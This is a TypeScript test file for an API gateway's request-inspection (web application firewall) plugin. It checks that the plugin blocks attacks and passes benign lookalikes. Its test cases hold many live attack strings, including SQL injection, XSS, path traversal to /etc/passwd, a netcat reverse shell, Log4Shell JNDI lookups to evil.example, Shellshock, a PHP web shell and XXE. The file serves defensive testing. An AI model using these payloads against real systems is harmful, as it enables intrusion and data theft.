/* eslint-disable no-template-curly-in-string -- attack payloads contain literal ${...} lookups */
import { writeFileSync, mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import diagnostics from 'node:diagnostics_channel'
import { Writable } from 'node:stream'
import t, { type Test } from 'tap'
import Fastify, { LogController, type FastifyInstance, type InjectOptions } from 'fastify'
import { gatewayErrorHandler, gatewayNotFoundHandler } from '../../src/errors.js'
import {
  inspectPlugin,
  createEngine,
  evaluateRequest,
  collectRequest,
  InspectLimitError,
  type InspectPluginOptions,
  type InspectRouteConfig
} from '../../plugins/inspect/index.js'
import type { InspectMatchSignal } from '../../lib/signals.js'
import { rulesetFile, TIED_PAIR_RULESET } from '../helpers/rulesets.js'

const BLOCKED = { statusCode: 403, code: 'GW_INSPECT_BLOCKED', error: 'Forbidden', message: 'Request blocked' }
const BODY_INVALID = { statusCode: 400, code: 'GW_INSPECT_BODY_INVALID', error: 'Bad Request', message: 'Invalid request body' }
const TOO_LARGE = { statusCode: 413, code: 'GW_INSPECT_TOO_LARGE', error: 'Payload Too Large', message: 'Request too large to inspect' }

interface Harness {
  app: FastifyInstance
  hits: () => number
  bodies: unknown[]
  logs: Array<Record<string, unknown>>
  logText: () => string
}

interface RouteSpec { url: string, inspect?: InspectRouteConfig, buffer?: boolean }

/**
 * A bare Fastify with the gateway error handler, the plugin and recording routes. `buffer: true`
 * routes receive bodies as raw Buffers, as proxied routes with `inspect.body` do.
 */
async function build (t: Test, options: InspectPluginOptions, routes: RouteSpec[]): Promise<Harness> {
  const logs: Array<Record<string, unknown>> = []
  let text = ''
  const stream = new Writable({
    write (chunk: Buffer, _enc, cb) {
      text += chunk.toString()
      for (const line of chunk.toString().split('\n')) if (line.trim() !== '') logs.push(JSON.parse(line) as Record<string, unknown>)
      cb()
    }
  })
  const app = Fastify({ logger: { level: 'info', stream }, logController: new LogController({ disableRequestLogging: true }) })
  app.setErrorHandler(gatewayErrorHandler)
  app.setNotFoundHandler(gatewayNotFoundHandler)
  // A generous budget unless the test sets one: a timeout blocks, and a busy machine can pass 50 ms.
  await app.register(inspectPlugin, { timeoutMs: 10_000, ...options })
  let hits = 0
  const bodies: unknown[] = []
  for (const r of routes) {
    await app.register(async function routePlugin (scope) {
      if (r.buffer === true) {
        scope.removeAllContentTypeParsers()
        scope.addContentTypeParser('*', { parseAs: 'buffer' }, function testBufferBody (_req, body, done) { done(null, body) })
      }
      scope.route({
        method: ['GET', 'POST'],
        url: r.url,
        ...(r.inspect !== undefined ? { config: { inspect: r.inspect } } : {}),
        handler: async (request) => {
          hits++
          bodies.push(request.body)
          return { ok: true }
        }
      })
    })
  }
  t.teardown(() => app.close())
  await app.ready()
  return { app, hits: () => hits, bodies, logs, logText: () => text }
}

async function send (h: Harness, opts: InjectOptions): Promise<{ status: number, body: Record<string, unknown>, id: string }> {
  const res = await h.app.inject(opts)
  return { status: res.statusCode, body: res.json(), id: String(res.headers['x-request-id'] ?? '') }
}

const q = (s: string): string => encodeURIComponent(s)

t.test('block mode: every family, in several encodings, in the query; 403 generic body; handler never hit', async (t) => {
  const h = await build(t, {}, [{ url: '/api', inspect: { mode: 'block' } }])
  const attacks: Array<[string, string]> = [
    ['sqli', q('1\' OR \'1\'=\'1')],
    ['sqli', q('1\'/**/UNION/**/SELECT/**/password,2/**/FROM/**/users--')],
    ['sqli', '%2527%2520OR%25201%253D1--'],
    ['sqli', q('1; DROP TABLE users')],
    ['sqli', q('x\' UnIoN sElEcT null,@@version#')],
    ['sqli', q('1 AND SLEEP(5)')],
    ['xss', q('<script>alert(1)</script>')],
    ['xss', q('<svg/onload=alert(1)>')],
    ['xss', q('javascript:alert(document.cookie)')],
    ['xss', '%253Cscript%253Ealert(1)%253C%252Fscript%253E'],
    ['xss', q('&lt;img src=x onerror=alert(1)&gt;')],
    ['xss', q('\\u003cscript\\u003ealert(1)\\u003c/script\\u003e')],
    ['xss', q('<ScRiPt>prompt(1)</sCrIpT>')],
    ['lfi', q('../../../etc/passwd')],
    ['lfi', '..%2f..%2f..%2fetc%2fpasswd'],
    ['lfi', '%c0%ae%c0%ae%c0%afetc%c0%afpasswd'],
    ['lfi', q('..\\..\\windows\\win.ini')],
    ['lfi', q('/etc/passwd') + '%00.png'],
    ['rfi', q('http://203.0.113.5/shell.txt?')],
    ['rfi', q('file:///etc/shadow')],
    ['rce', q(';cat /etc/passwd')],
    ['rce', q('$(whoami)')],
    ['rce', q('`id`')],
    ['rce', q('| nc 198.51.100.7 4444 -e /bin/sh')],
    ['rce', q('x;c\'a\'t${IFS}/etc/passwd')],
    ['rce', q('& ping -c 10 127.0.0.1 &')],
    ['php', q('php://filter/convert.base64-encode/resource=index.php')],
    ['php', q('<?php system($_GET[\'c\']); ?>')],
    ['php', q('O:8:"stdClass":1:{s:1:"a";i:1;}')],
    ['java', q('${jndi:ldap://evil.example/a}')],
    ['java', q('${${lower:j}ndi:${lower:l}dap://evil.example/a}')],
    ['java', q('java.lang.Runtime.getRuntime().exec("id")')],
    ['java', q('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA')],
    ['generic', q('{{7*7}}')],
    ['generic', q('http://169.254.169.254/latest/meta-data/')],
    ['generic', q('require(\'child_process\').exec(\'id\')')]
  ]
  for (const [family, value] of attacks) {
    const res = await send(h, { url: `/api?q=${value}` })
    t.equal(res.status, 403, `${family}: ${value}`)
    t.strictSame({ statusCode: res.body.statusCode, code: res.body.code, error: res.body.error, message: res.body.message }, BLOCKED)
  }
  // Attack shapes in keys, cookies, headers and the path are inspected too.
  t.equal((await send(h, { url: '/api?__proto__[admin]=1' })).status, 403, 'prototype pollution key')
  t.equal((await send(h, { url: '/api', headers: { cookie: `sid=${q('1\' OR 1=1--')}` } })).status, 403, 'cookie')
  t.equal((await send(h, { url: '/api', headers: { 'user-agent': '() { :; }; /bin/bash -c id' } })).status, 403, 'shellshock user-agent')
  t.equal((await send(h, { url: '/api', headers: { referer: 'https://x.example/"><script>alert(1)</script>' } })).status, 403, 'referer')
  t.equal((await send(h, { url: '/api', headers: { 'x-api-version': '${jndi:ldap://evil.example/x}' } })).status, 403, 'custom header')
  t.equal(h.hits(), 0, 'no attack reached the handler')
})

t.test('a block carries the request id, and the log names rule and family but never the payload', async (t) => {
  const h = await build(t, {}, [{ url: '/api', inspect: { mode: 'block' } }])
  const canary = 'canary-7c1f'
  const res = await h.app.inject({ url: `/api?q=${q(`<script>alert('${canary}')</script>`)}` })
  t.equal(res.statusCode, 403)
  const body = res.json() as Record<string, unknown>
  const line = h.logs.find((l) => l.msg === 'request blocked by inspection')
  t.ok(line, 'one info line for the block')
  t.equal(body.requestId, line?.reqId, 'body.requestId is the request id (gatewayErrorHandler adds it for GW_INSPECT_BLOCKED)')
  const inspect = line?.inspect as { rules: string[], families: string[], mode: string } | undefined
  t.ok(inspect !== undefined && inspect.rules.length > 0 && inspect.rules.every((id) => id.startsWith('pc-')), 'rule ids logged')
  t.ok(inspect?.families.includes('xss'), 'family logged')
  t.equal(inspect?.mode, 'block')
  t.notOk(h.logText().includes(canary), 'payload never logged')
  t.equal(h.hits(), 0)
})

t.test('benign lookalikes pass: names, SQL-ish English, GraphQL, JWTs, URLs, markdown', async (t) => {
  const h = await build(t, {}, [{ url: '/api', inspect: { mode: 'block', body: true } }])
  const values = [
    'O\'Brien', 'Seán O\'Neill', 'drop me a line', 'select your plan', '1\' OR tea', 'rock & roll', 'tom & jerry',
    'Union Square', 'from dublin to cork', '50% off -- today only', 'price<50', '-created_at', 'a+b=c', 'C++ tutorial',
    'https://app.example.com/callback?state=abc', 'ana.garcia@example.com', 'Is 3 < 5? Yes.', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
    'SGVsbG8sIHdvcmxkIQ==', 'node.js streams', 'how to select a mattress', 'update iphone', 'delete account'
  ]
  for (const v of values) {
    const res = await send(h, { url: `/api?q=${q(v)}&page=2` })
    t.equal(res.status, 200, v)
  }
  const graphql = [
    'query GetUser($id: ID!) {\n  user(id: $id) { ...UserFields orders(first: 10) { edges { node { id total } } } }\n}\n\nfragment UserFields on User { id name email }',
    '# comment\nquery Hero($episode: Episode, $withFriends: Boolean!) {\n  hero(episode: $episode) { name friends @include(if: $withFriends) { name } }\n}',
    'mutation DeleteItem($id: ID!) { deleteItem(id: $id) { deletedId } }',
    'query { __schema { types { name kind } } }'
  ]
  for (const query of graphql) {
    t.equal((await send(h, { url: `/api?query=${q(query)}&variables=${q('{"id":"usr_1"}')}` })).status, 200, 'GraphQL GET')
    t.equal((await send(h, { method: 'POST', url: '/api', payload: { query, variables: { id: 'usr_1', input: { bio: 'Drop me a line! I like rock & roll -- and tea.' } } } })).status, 200, 'GraphQL POST')
  }
  const markdown = '## Steps\n\n1. Open *Settings*\n2. Select "Dark mode"\n\nSee [docs](https://docs.example.com/guide#install).\n\n```diff\n- a\n+ b\n```'
  t.equal((await send(h, { method: 'POST', url: '/api', payload: { title: 'Bug: select box resets', body: markdown, author: 'Siobhán D\'Arcy' } })).status, 200, 'markdown JSON body')
  t.equal((await send(h, { url: '/api', headers: { authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1In0.' + 'a'.repeat(40), 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36', cookie: 'theme=dark; consent=%7B%22ads%22%3Afalse%7D' } })).status, 200, 'browser headers')
  t.equal(h.hits(), values.length + graphql.length * 2 + 2)
})

t.test('detect mode logs and publishes without blocking', async (t) => {
  const h = await build(t, { mode: 'detect' }, [{ url: '/default', inspect: {} }, { url: '/detect', inspect: { mode: 'detect' } }, { url: '/block', inspect: { mode: 'block' } }])
  const signals: InspectMatchSignal[] = []
  const onSignal = (m: unknown): void => { signals.push(m as InspectMatchSignal) }
  diagnostics.subscribe('portcullis:inspect.match', onSignal)
  t.teardown(() => { diagnostics.unsubscribe('portcullis:inspect.match', onSignal) })
  const attack = `q=${q('1\' UNION SELECT password FROM users--')}`
  t.equal((await send(h, { url: `/detect?${attack}` })).status, 200)
  t.equal((await send(h, { url: `/default?${attack}` })).status, 200, 'plugin mode is the default of routes without one')
  t.equal((await send(h, { url: `/block?${attack}` })).status, 403, 'a route can still block')
  t.equal(h.hits(), 2)
  const detectLines = h.logs.filter((l) => l.msg === 'inspection match (detect mode)')
  t.equal(detectLines.length, 2)
  t.ok(signals.some((s) => s.route === '/detect' && s.family === 'sqli' && !s.blocked && s.ruleId.startsWith('pc-sqli-')), 'signal per rule, not blocked')
  t.ok(signals.some((s) => s.route === '/block' && s.blocked), 'blocked signal on the blocking route')
  t.notOk(h.logText().includes('password FROM'), 'payload never logged')
})

t.test('per-route exclusions drop exactly the listed rules', async (t) => {
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  const url = `/x?q=${q('<script>alert(1)</script>')}`
  const ids = evaluateRequest(engine, { url, headers: {} }, { maxInspectBytes: 32768, maxBodyDepth: 32, maxBodyKeys: 2000 }, 1_000_000).matches.map((m) => m.ruleId)
  t.ok(ids.length >= 2, `several rules match (${ids.join(',')})`)
  const h = await build(t, {}, [
    { url: '/all', inspect: { mode: 'block', exclude: ids.map((rule) => ({ rule, field: '*' })) } },
    { url: '/some', inspect: { mode: 'block', exclude: ids.slice(1).map((rule) => ({ rule, field: '*' })) } }
  ])
  t.equal((await send(h, { url: url.replace('/x', '/all') })).status, 200, 'every matching rule excluded')
  t.equal((await send(h, { url: url.replace('/x', '/some') })).status, 403, 'one matching rule left')
  t.equal((await send(h, { url: `/all?f=${q('../../etc/passwd')}` })).status, 403, 'other rules still apply')
  t.equal(h.hits(), 1)
})

t.test('inspect: false and routes without config.inspect are untouched', async (t) => {
  const h = await build(t, {}, [{ url: '/off', inspect: false }, { url: '/plain' }])
  const attack = `q=${q('<script>alert(1)</script>')}`
  t.equal((await send(h, { url: `/off?${attack}` })).status, 200)
  t.equal((await send(h, { url: `/plain?${attack}` })).status, 200)
  const plain = h.app.printRoutes({ includeHooks: true })
  t.notOk(plain.includes('inspectOnRequest'), 'no inspection hook on either route')
  t.equal(h.hits(), 2)
})

t.test('host-app bodies (parsed by Fastify) are inspected only with body: true', async (t) => {
  const h = await build(t, {}, [{ url: '/with', inspect: { mode: 'block', body: true } }, { url: '/without', inspect: { mode: 'block' } }])
  const payload = { comment: 'hello', tags: ['a', '\' OR 1=1 --'] }
  t.equal((await send(h, { method: 'POST', url: '/with', payload })).status, 403, 'JSON object body')
  t.equal((await send(h, { method: 'POST', url: '/with', headers: { 'content-type': 'text/plain' }, payload: '<script>alert(1)</script>' })).status, 403, 'string body')
  t.equal((await send(h, { method: 'POST', url: '/without', payload })).status, 200, 'body not inspected')
  t.equal((await send(h, { method: 'POST', url: `/without?x=${q('$(id)')}`, payload: { ok: 1 } })).status, 403, 'URL still inspected')
  const deep = JSON.parse('['.repeat(40) + ']'.repeat(40)) as unknown
  t.strictSame((await send(h, { method: 'POST', url: '/with', payload: { deep } })).body, BODY_INVALID, 'depth limit on a parsed body')
  t.equal(h.hits(), 1)
})

t.test('buffered (proxy-style) bodies: every content type, limits, and the exact bytes forwarded', async (t) => {
  const h = await build(t, { maxBodyKeys: 100, maxBodyDepth: 10 }, [{ url: '/b', inspect: { mode: 'block', body: true }, buffer: true }])
  const post = async (contentType: string, payload: string): Promise<{ status: number, body: Record<string, unknown> }> =>
    await send(h, { method: 'POST', url: '/b', headers: { 'content-type': contentType }, payload })

  t.strictSame((await post('application/json', '{"a":1,"__proto__":{"admin":true}}')).body, BODY_INVALID, '__proto__')
  t.strictSame((await post('application/json', '{"constructor":{"prototype":{"admin":true}}}')).body, BODY_INVALID, 'constructor.prototype')
  t.strictSame((await post('application/json', '['.repeat(12) + ']'.repeat(12))).body, BODY_INVALID, 'depth')
  t.strictSame((await post('application/json', JSON.stringify(Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`k${i}`, i]))))).body, BODY_INVALID, 'key count')
  t.equal((await post('application/json', '{"user":{"name":"x","bio":"<img src=x onerror=alert(1)>"}}')).status, 403, 'JSON')
  t.equal((await post('application/vnd.api+json', '{"data":{"attributes":{"q":"1 UNION SELECT 1,2--"}}}')).status, 403, '+json')
  t.equal((await post('application/json', '{"broken": "<script>alert(1)</script>"')).status, 403, 'invalid JSON judged as text')
  t.equal((await post('application/x-www-form-urlencoded', 'name=x&cmd=%3Bcat%20%2Fetc%2Fpasswd')).status, 403, 'urlencoded value')
  t.equal((await post('application/x-www-form-urlencoded', `${q('<svg onload=alert(1)>')}=1`)).status, 403, 'urlencoded key')
  const boundary = '----pcboundary'
  const part = (name: string, value: string, file?: string, type?: string): string =>
    `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${file !== undefined ? `; filename="${file}"` : ''}\r\n${type !== undefined ? `Content-Type: ${type}\r\n` : ''}\r\n${value}\r\n`
  const mp = `multipart/form-data; boundary=${boundary}`
  t.equal((await post(mp, part('a', 'hello') + part('b', '${jndi:ldap://x/y}') + `--${boundary}--\r\n`)).status, 403, 'multipart field')
  t.equal((await post(mp, part('f', 'GIF89a', 'shell.php', 'image/gif') + `--${boundary}--\r\n`)).status, 403, 'multipart executable file name')
  t.equal((await post(mp, part('f', '{"x":"../../../etc/passwd"}', 'a.json', 'application/json') + `--${boundary}--\r\n`)).status, 403, 'multipart JSON part')
  t.equal((await post('application/xml', '<?xml version="1.0"?><order><note>1\' OR \'1\'=\'1</note></order>')).status, 403, 'XML text')
  t.equal((await post('text/xml', '<order note="&lt;script&gt;alert(1)&lt;/script&gt;"/>')).status, 403, 'XML attribute with entities')
  t.equal((await post('application/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')).status, 403, 'XXE declaration')
  t.equal((await post('text/plain', 'ping -c 3 127.0.0.1; cat /etc/shadow')).status, 403, 'raw text')
  t.equal(h.hits(), 0, 'nothing reached the handler')

  const clean = '{"name":"Seán O\'Brien","note":"drop me a line","tags":["select","update"]}'
  t.equal((await post('application/json', clean)).status, 200)
  t.ok(Buffer.isBuffer(h.bodies[0]) && (h.bodies[0] as Buffer).equals(Buffer.from(clean)), 'the handler gets exactly the inspected bytes')
  const cleanMp = part('name', 'O\'Brien') + part('file', 'id,name\n1,Ana\n', 'report (1).csv', 'text/csv') + `--${boundary}--\r\n`
  t.equal((await post(mp, cleanMp)).status, 200, 'clean multipart')
  t.equal((await post('application/xml', '<order id="7"><customer name="O&apos;Neill"/><note><![CDATA[Select Blend & tea]]></note></order>')).status, 200, 'clean XML')
})

t.test('inspection budget: 413 in block mode, logged and passed in detect mode', async (t) => {
  const h = await build(t, { maxInspectBytes: 4096 }, [{ url: '/block', inspect: { mode: 'block', body: true } }, { url: '/detect', inspect: { mode: 'detect', body: true } }])
  const big = { text: 'lorem ipsum '.repeat(1000) }
  t.strictSame((await send(h, { method: 'POST', url: '/block', payload: big })).body, TOO_LARGE)
  t.equal((await send(h, { method: 'POST', url: '/detect', payload: big })).status, 200)
  t.equal((await send(h, { url: `/block?q=${'a'.repeat(5000)}` })).status, 413, 'URL phase too')
  t.equal(h.hits(), 1)
})

t.test('an engine timeout blocks in block mode', async (t) => {
  const h = await build(t, { timeoutMs: 1, maxInspectBytes: 256 * 1024 }, [{ url: '/block', inspect: { mode: 'block', body: true } }, { url: '/detect', inspect: { mode: 'detect', body: true } }])
  const payload = 'plain words and more plain words '.repeat(6000)
  const blocked = await send(h, { method: 'POST', url: '/block', headers: { 'content-type': 'text/plain' }, payload })
  t.equal(blocked.status, 403)
  const line = h.logs.find((l) => l.msg === 'request blocked by inspection')
  t.equal((line?.inspect as { timeout?: boolean } | undefined)?.timeout, true, 'logged as a timeout')
  t.equal((await send(h, { method: 'POST', url: '/detect', headers: { 'content-type': 'text/plain' }, payload })).status, 200)
  t.equal(h.hits(), 1)
})

t.test('configuration errors stop ready() with GW_INSPECT_CONFIG_INVALID', async (t) => {
  const cases: Array<[string, InspectPluginOptions, Record<string, unknown>]> = [
    ['bad route mode', {}, { mode: 'shadow' }],
    ['unknown route key', {}, { mode: 'block', bodyy: true }],
    ['unknown excluded rule', {}, { mode: 'block', exclude: [{ rule: 'pc-nope-999', field: '*' }] }],
    ['rule id alone in exclude', {}, { mode: 'block', exclude: ['pc-sqli-001'] }],
    ['unknown detect-mode rule', {}, { mode: 'block', detect: ['pc-nope-999'] }],
    ['malformed excluded field', {}, { mode: 'block', exclude: [{ rule: 'pc-sqli-001', field: 'args.sql' }] }],
    ['bad plugin option', { maxInspectBytes: 10 }, { mode: 'block' }],
    ['unknown plugin option', { nope: 1 } as unknown as InspectPluginOptions, { mode: 'block' }],
    ['missing rules file', { rulesFile: '/nonexistent/rules.json' }, { mode: 'block' }]
  ]
  const dir = mkdtempSync(join(tmpdir(), 'pc-inspect-'))
  const broken = join(dir, 'broken.json')
  writeFileSync(broken, JSON.stringify({ version: '2.2', rules: [{ id: 'op-1', name: 'x', tags: { type: 'x', category: 'y' }, conditions: [{ operator: 'no_such_operator', parameters: { inputs: [{ address: 'server.request.query' }] } }] }] }))
  cases.push(['rules file the engine refuses', { rulesFile: broken }, { mode: 'block' }])
  for (const [name, options, inspect] of cases) {
    const app = Fastify()
    t.teardown(() => app.close())
    app.register(inspectPlugin, options)
    app.register(async (scope) => { scope.get('/x', { config: { inspect: inspect as InspectRouteConfig } }, async () => 'ok') })
    await t.rejects(async () => { await app.ready() }, { code: 'GW_INSPECT_CONFIG_INVALID' }, name)
  }
})

t.test('an operator ruleset adds rules beside the built-in ones (a file saved with a byte-order mark too)', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'pc-inspect-'))
  const file = join(dir, 'extra.json')
  writeFileSync(file, '\uFEFF' + JSON.stringify({
    version: '2.2',
    rules: [{ id: 'acme-001', name: 'internal debug switch', tags: { type: 'generic', category: 'attack_attempt', family: 'generic' }, conditions: [{ operator: 'match_regex', parameters: { inputs: [{ address: 'server.request.query' }], regex: '^acme-debug-on$' } }] }]
  }))
  const h = await build(t, { rulesFile: file }, [{ url: '/api', inspect: { mode: 'block', exclude: [{ rule: 'acme-001', field: '*' }] } }, { url: '/strict', inspect: { mode: 'block' } }])
  t.equal((await send(h, { url: '/strict?x=acme-debug-on' })).status, 403, 'operator rule blocks')
  t.equal((await send(h, { url: '/api?x=acme-debug-on' })).status, 200, 'and can be excluded by id')
  t.equal((await send(h, { url: `/api?x=${q('<script>alert(1)</script>')}` })).status, 403, 'built-in rules still load')
})

// How long these take is measured by bench/inspect-micro.mjs (section 2), not here.
t.test('adversarial 1 MiB inputs are refused past the budget; budget-sized ones are inspected', async (t) => {
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  const limits = { maxInspectBytes: 32 * 1024, maxBodyDepth: 32, maxBodyKeys: 2000 }
  const runs = ['\'', '"', '(', '[', '<', '../', '${', '{{', '`', '$(', '<a ', '\' or 1=1 ', ';id ', '%', 'a ']
  const judge = (req: { url: string, headers: Record<string, string>, body?: string }): string => {
    try {
      const r = engine.evaluate(collectRequest(req, limits, true), 50_000)
      return Array.isArray(r.matches) && typeof r.timeout === 'boolean' ? 'inspected' : 'no result'
    } catch (err) {
      if (!(err instanceof InspectLimitError)) throw err
      return 'refused'
    }
  }
  for (const s of runs) {
    const mib = s.repeat(Math.ceil(1048576 / s.length)).slice(0, 1048576)
    for (const ct of ['text/plain', 'application/json', 'application/xml', 'application/x-www-form-urlencoded']) {
      t.equal(judge({ url: '/x', headers: { 'content-type': ct }, body: mib }), 'refused', `1 MiB ${ct} body of ${JSON.stringify(s)}`)
    }
    t.equal(judge({ url: `/x?q=${mib}`, headers: {} }), 'refused', `1 MiB query of ${JSON.stringify(s)}`)
    // The largest input that is fully inspected (the whole budget).
    const budget = mib.slice(0, limits.maxInspectBytes - 64)
    t.equal(judge({ url: '/x', headers: { 'content-type': 'text/plain' }, body: budget }), 'inspected', `budget-sized body of ${JSON.stringify(s)}`)
  }
})

t.test('bare-word values and repeated keys: fewer inputs, the same verdicts', async (t) => {
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  const limits = { maxInspectBytes: 65536, maxBodyDepth: 32, maxBodyKeys: 5000 }
  const items = Array.from({ length: 40 }, (_, i) => ({ sku: `SKU-${i}`, qty: String(i % 3), note: 'blue shoes, size 42' }))
  const json = (body: unknown): Buffer => Buffer.from(JSON.stringify(body))
  const req = (body: unknown): { url: string, headers: Record<string, string>, body: Buffer } => ({ url: '/orders', headers: { 'content-type': 'application/json' }, body: json(body) })
  const payload = collectRequest(req({ items }), limits, true).payload()
  const flat = (v: unknown): unknown[] => Array.isArray(v) ? v.flatMap(flat) : [v]
  t.strictSame(flat(payload['portcullis.request.keys.plain']).sort(), ['items', 'note', 'qty', 'sku'], 'each key once, however often it repeats')
  t.strictSame(flat(payload['portcullis.request.body.text_words']), ['blue shoes, size 42'], 'a repeated value once (a text word: on its own address)')
  t.equal(payload['server.request.body'], undefined, 'nothing else left for the rules that cannot match a text word')
  t.ok(flat(payload['portcullis.request.body.plain']).includes('SKU-39'), 'bare-word values go to the plain address')
  t.equal(evaluateRequest(engine, req({ items }), limits, 1_000_000).matches.length, 0, 'clean order passes')

  const attacks: Array<[string, unknown]> = [
    ['an attack in the 39th repeated item', { items: [...items.slice(0, 38), { sku: "1' UNION SELECT password FROM users--", qty: '1', note: 'x' }] }],
    ['a bare-word value only the bare-word rules can catch', { items, cmd: '__js_function' }],
    ['a bare-word key', { items, known_hosts: 'x' }]
  ]
  for (const [what, body] of attacks) {
    t.ok(evaluateRequest(engine, req(body), limits, 1_000_000).matches.length > 0, what)
  }
  const query = evaluateRequest(engine, { url: '/x?a=1&b=whoami&c=1', headers: {} }, limits, 1_000_000)
  t.ok(query.matches.length > 0, 'a bare-word query value is still judged')
})

t.test('clean-verdict cache: repeated benign values skip the engine, never an attack', async (t) => {
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  t.equal(engine.cacheable, true, 'the built-in ruleset judges every value on its own')
  const xss = q('<script>alert(1)</script>')
  const h = await build(t, {}, [
    { url: '/lenient', inspect: { mode: 'block', exclude: evaluateRequest(engine, { url: `/x?q=${xss}`, headers: {} }, { maxInspectBytes: 32768, maxBodyDepth: 32, maxBodyKeys: 2000 }, 1_000_000).matches.map((m) => ({ rule: m.ruleId, field: 'query.q' })) } },
    { url: '/strict', inspect: { mode: 'block' } }
  ])
  t.equal((await send(h, { url: '/strict?q=hello&page=2' })).status, 200)
  t.equal((await send(h, { url: `/strict?q=hello&page=2&x=${xss}` })).status, 403, 'a new value beside remembered ones is judged')
  for (let i = 0; i < 50; i++) t.equal((await send(h, { url: `/strict?q=${xss}` })).status, 403, `an attack is blocked every time (${i})`)
  // Passed on a route that excludes the matching rules: not remembered as clean.
  t.equal((await send(h, { url: `/lenient?q=${xss}` })).status, 200, 'excluded rules let it through /lenient')
  t.equal((await send(h, { url: `/strict?q=${xss}` })).status, 403, 'and it is still blocked where the rules apply')
  t.equal((await send(h, { url: '/strict', headers: { 'x-note': '<img src=x onerror=alert(1)>' } })).status, 403, 'headers too')
})

t.test('clean-verdict cache: off for operator rules that tie values together', async (t) => {
  const file = rulesetFile(TIED_PAIR_RULESET)
  const h = await build(t, { rulesFile: file }, [{ url: '/api', inspect: { mode: 'block' } }])
  t.equal((await send(h, { url: `/api?x=${q('acme on')}` })).status, 200, 'one half alone is clean')
  t.equal((await send(h, { url: '/api', headers: { 'x-mode': 'acme-debug' } })).status, 200, 'the other half alone is clean')
  t.equal((await send(h, { url: `/api?x=${q('acme on')}`, headers: { 'x-mode': 'acme-debug' } })).status, 403, 'both together still match: no value was remembered')
  const engine = createEngine(file)
  t.teardown(() => { engine.dispose() })
  t.equal(engine.cacheable, false)
})

t.test('verdictCacheSize: 0 turns the cache off; a small cache stays correct while it rotates', async (t) => {
  for (const verdictCacheSize of [0, 2]) {
    const h = await build(t, { verdictCacheSize }, [{ url: '/api', inspect: { mode: 'block' } }])
    for (let i = 0; i < 20; i++) {
      t.equal((await send(h, { url: `/api?p=${i % 3}&v=${i % 5}&w=word${i % 4}` })).status, 200)
      t.equal((await send(h, { url: `/api?p=${i % 3}&v=${q('1\' OR \'1\'=\'1')}` })).status, 403)
    }
    t.equal(h.hits(), 20, `size ${verdictCacheSize}`)
  }
})

t.test('bare-word screen: every word a rule matches reaches the engine (corpus, benign set, rule keywords)', async (t) => {
  const { readFileSync, existsSync } = await import('node:fs')
  const { resolve } = await import('node:path')
  const { WORD_LISTS } = await import('../../plugins/inspect/addresses.js')
  const { readRuleset, BUILTIN_RULES_FILE } = await import('../../plugins/inspect/engine.js')
  const engine = createEngine()
  t.teardown(() => { engine.dispose() })
  const words = new Set<string>()
  const addWords = (text: string): void => {
    for (const w of text.split(/[^A-Za-z0-9_-]+/)) if (w !== '' && w.length <= 64) words.add(w)
  }
  const root = resolve(import.meta.dirname, '../..')
  const corpus = resolve(root, 'test/fixtures/crs/crs-regression.jsonl')
  t.ok(existsSync(corpus), 'the attack corpus is vendored in test/fixtures/crs')
  for (const file of [corpus, resolve(root, 'test/fixtures/benign/benign.jsonl')]) {
    for (const line of readFileSync(file, 'utf8').split('\n')) {
      if (line.trim() === '') continue
      let text = line
      try { text = decodeURIComponent(line) } catch {}
      addWords(text)
    }
  }
  // The rules' own keywords, in several spellings, and joined the ways identifiers are.
  const rules = readRuleset(BUILTIN_RULES_FILE).rules as Array<{ conditions: Array<{ parameters: { regex?: string, list?: string[] } }> }>
  for (const rule of rules) {
    for (const c of rule.conditions) {
      const source = (c.parameters.regex ?? '') + ' ' + (c.parameters.list ?? []).join(' ')
      for (const w of source.replace(/\\[a-z]/g, ' ').split(/[^A-Za-z0-9_-]+/)) {
        if (w === '' || w.length > 60) continue
        for (const v of [w, w.toUpperCase(), `${w[0]?.toUpperCase() ?? ''}${w.slice(1)}`, `x${w}`, `${w}1`, `_${w}_`, `a-${w}-b`]) words.add(v)
      }
    }
  }
  t.ok(words.size > 5000, `${words.size} distinct bare words`)
  const addresses = Object.entries(WORD_LISTS)
  let screened = 0
  let missed = 0
  for (const w of words) {
    for (const [address, list] of addresses) {
      if (engine.wordScreen.relevant(list, w)) continue
      screened++
      const ctx = engine as unknown as { evaluate: (c: unknown, t: number) => { matches: unknown[] } }
      const result = ctx.evaluate({ empty: false, payload: () => ({ [address]: [w] }) }, 1_000_000)
      if (result.matches.length > 0) {
        missed++
        t.fail(`${address}: ${w} matched by the engine but screened out`)
      }
    }
  }
  t.equal(missed, 0, 'no word the engine matches is screened out')
  t.ok(screened > words.size, `most words skip the engine (${screened} word/address pairs screened out)`)
  // The screen does its job for the common case: ids, numbers, enum values.
  for (const w of ['12345', 'SKU-42', 'blue', 'name', 'asc', 'true', 'en-US']) t.equal(engine.wordScreen.relevant(WORD_LISTS['portcullis.request.query.plain'] as number, w), false, w)
  for (const w of ['whoami', '__proto__', 'information_schema', 'xp_cmdshell']) t.equal(engine.wordScreen.relevant(WORD_LISTS['portcullis.request.query.plain'] as number, w), true, w)
})

t.test('bare-word screen: an operator rule it cannot read in JavaScript lets every word through', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'pc-inspect-'))
  const file = join(dir, 'sqli.json')
  writeFileSync(file, JSON.stringify({
    version: '2.2',
    rules: [{ id: 'acme-sqli', name: 'libinjection on the query', tags: { type: 'sqli', category: 'attack_attempt', family: 'sqli' }, conditions: [{ operator: 'is_sqli', parameters: { inputs: [{ address: 'server.request.query' }] } }] }]
  }))
  const engine = createEngine(file)
  t.teardown(() => { engine.dispose() })
  const { WORD_LISTS } = await import('../../plugins/inspect/addresses.js')
